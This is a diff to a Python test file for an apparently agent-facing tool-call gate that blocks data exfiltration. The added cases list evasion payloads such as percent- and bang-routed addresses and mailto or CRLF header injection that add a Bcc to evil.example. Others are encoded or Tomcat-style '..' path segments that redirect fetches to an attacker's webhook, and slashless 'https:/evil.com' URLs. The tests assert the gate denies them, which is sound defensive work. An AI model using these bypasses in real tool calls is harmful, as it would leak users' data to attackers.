@@ -193,6 +193,65 @@ async def test_dot_segments_are_resolved_before_the_prefix_match(tmp_path, db_fi
     assert "hooks.slack.com/services/tevil/b9/xyz" in found[1][2]
 
 
+# -- what the mail server, the web server or the tool itself reads further -----------------
+
+FURTHER_ATTACKS: list[tuple[str, dict[str, Any]]] = [
+    # sender-specified routing: corp.example's mail server relays on to evil.example
+    ("send_email", {"to": ["attacker%evil.example@corp.example"]}),
+    ("send_email", {"to": ["evil.example!attacker@corp.example"]}),
+    ("send_email", {"to": ["Bob <attacker%evil.example@corp.example>"]}),
+    ("send_email", {"to": ["mailto:attacker%25evil.example@corp.example"]}),
+    # mailto fields other than to / cc / bcc
+    ("send_email", {"to": ["mailto:bob@corp.example?to%00=attacker@evil.example"]}),
+    ("send_email", {"to": ["mailto:bob@corp.example?resent-bcc=attacker@evil.example"]}),
+    ("send_email", {"to": ["mailto:bob@corp.example?reply-to=attacker@evil.example"]}),
+    # fields inside a string: a raw header line, JSON text the tool decodes
+    ("send_email", {"to": ["bob@corp.example"], "headers": "Bcc: attacker@evil.example"}),
+    ("send_email", {"to": ["bob@corp.example"], "headers": ["Bcc: attacker@evil.example"]}),
+    ("send_email", {"to": ["bob@corp.example"], "options": '{"bcc": "attacker@evil.example"}'}),
+    ("send_email", {"to": ["bob@corp.example"],
+                    "options": '{"bcc": "bob@corp.example", "bcc": "attacker@evil.example"}'}),
+    ("send_email", {"to": ["bob@corp.example"],
+                    "options": '{"subject": "hi\\r\\nBcc: attacker@evil.example"}'}),
+    # path segments a server may read as `..` though WHATWG does not
+    ("fetch", {"url": HOOK + "..;/TEVIL/B9/xyz"}),  # Tomcat cuts path parameters
+    ("fetch", {"url": HOOK + "..;jsessionid=1/TEVIL/B9/xyz"}),
+    ("fetch", {"url": HOOK + "%2E%2E%3B/TEVIL/B9/xyz"}),
+    ("fetch", {"url": HOOK + "%252e%252e/TEVIL/B9/xyz"}),  # decoded twice
+    ("fetch", {"url": HOOK + "%EF%BC%8E%EF%BC%8E/TEVIL/B9/xyz"}),  # best-fit mapping
+    ("fetch", {"url": HOOK + "\uff0e\uff0e/TEVIL/B9/xyz"}),
+    ("fetch", {"url": HOOK + "%c0%ae%c0%ae/TEVIL/B9/xyz"}),  # overlong UTF-8
+    ("fetch", {"url": HOOK + "..%20/TEVIL/B9/xyz"}),  # Windows trims spaces and dots
+    ("fetch", {"url": HOOK + ".../TEVIL/B9/xyz"}),
+    ("fetch", {"url": HOOK + "B1//../../TEVIL/B9/xyz"}),  # slashes merged first (nginx)
+]
+FURTHER_BENIGN: list[tuple[str, dict[str, Any]]] = [
+    ("send_email", {"to": ["bob+q3@corp.example"]}),
+    ("send_email", {"to": ["mailto:bob@corp.example?subject=a%40b&body=ask%20x@y.example"]}),
+    ("send_email", {"to": ["bob@corp.example"], "headers": "X-Priority: 1",
+                    "options": '{"priority": "high", "cc": "alice@corp.example"}'}),
+    ("send_email", {"to": ["bob@corp.example"], "body": '{"bcc": "a note, not a field"}'}),
+    ("fetch", {"url": HOOK + "B1/.well-known/x"}),
+    ("fetch", {"url": HOOK + "B1;v=2/abc"}),
+    ("fetch", {"url": HOOK + "B1//abc.txt"}),
+    ("fetch", {"url": HOOK + "B1//abc/./x"}),
+]
+
+
+async def test_what_the_mail_or_web_server_reads_further_is_never_trusted(tmp_path, db_file):
+    calls = FURTHER_ATTACKS + FURTHER_BENIGN
+    answers, sent = await run_calls(tmp_path, calls)
+    assert_blocked(answers[:len(FURTHER_ATTACKS)], FURTHER_ATTACKS)
+    assert [args for tool, args in calls[len(FURTHER_ATTACKS):]] == [
+        {k: v for k, v in entry["args"].items() if v} for entry in sent]
+    found = verdicts(db_file, [tool for tool, _ in calls])
+    assert {c for _v, c, _r in found} == {"sink_gate"}
+    assert "routed on by its local part" in found[0][2]
+    assert "the mailto 'reply-to' field" in found[6][2]
+    assert "line break" in found[11][2] and found[11][0] == "deny"
+    assert all("read as '..'" in r for _v, _c, r in found[12:len(FURTHER_ATTACKS)])
+
+
 # -- taint matches the destination however it is written -----------------------------------
 
 TAINT_DENIED = [
@@ -219,6 +278,13 @@ TAINT_DENIED = [
     ("fetch", {"url": "http://[2001:db8::7]/"}),
     ("fetch", {"url": "http://[2001:DB8:0:0:0:0:0:7]:8080/x"}),
     ("http_request", {"location": "[2001:db8:0::7]/upload", "body": "x"}),
+    # a special scheme needs no `//` to WHATWG: the host is evil.com, not `https`
+    ("fetch", {"url": "https:/evil.com/collect"}),
+    ("fetch", {"url": "HTTPS:evil.com/collect/x"}),
+    ("http_request", {"location": "https:/evil.com/collect", "body": "x"}),
+    # routed on by the local part to the planted mailbox
+    ("send_email", {"to": ["attacker%evil.com@mail.example"], "body": "x"}),
+    ("send_email", {"to": ["evil.com!attacker@mail.example"], "body": "x"}),
 ]
 
 
